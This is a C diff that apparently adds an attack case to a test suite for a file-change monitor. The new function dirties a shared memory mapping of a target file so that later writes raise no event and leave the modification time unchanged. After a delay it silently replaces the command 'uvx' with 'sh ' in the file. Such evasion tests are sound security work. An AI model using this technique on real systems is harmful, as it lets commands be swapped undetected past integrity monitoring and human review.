@@ -109,9 +109,25 @@ WRITER(write_locked, hold_lock)
 WRITER(write_growing, hold_growing)
 WRITER(write_emptied, hold_emptied)
 
+// Changes a writable target by a page that is dirty already: no event, and no new time of change.
+static void write_dirty_page(long rounds, char **arguments) {
+  (void)arguments;
+  int file = open(TARGET, O_RDWR | O_NOFOLLOW | O_CLOEXEC);
+  if (file < 0) fail(TARGET);
+  char *mapped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
+  if (mapped == MAP_FAILED) fail("mmap");
+  *(volatile char *)mapped = mapped[0];
+  // Until whoever looks has seen that nothing changed.
+  rest(2500000);
+  char *command = memmem(mapped, 4096, "uvx", 3);
+  if (command) memcpy(command, "sh ", 3);
+  rest(rounds * 100000);
+}
+
 const struct attack writer_attacks[] = {
     {"write-open", write_open},       {"write-mapped", write_mapped},
     {"write-leased", write_leased},   {"write-locked", write_locked},
     {"write-growing", write_growing}, {"write-emptied", write_emptied},
+    {"write-dirty-page", write_dirty_page},
     {NULL, NULL},
 };
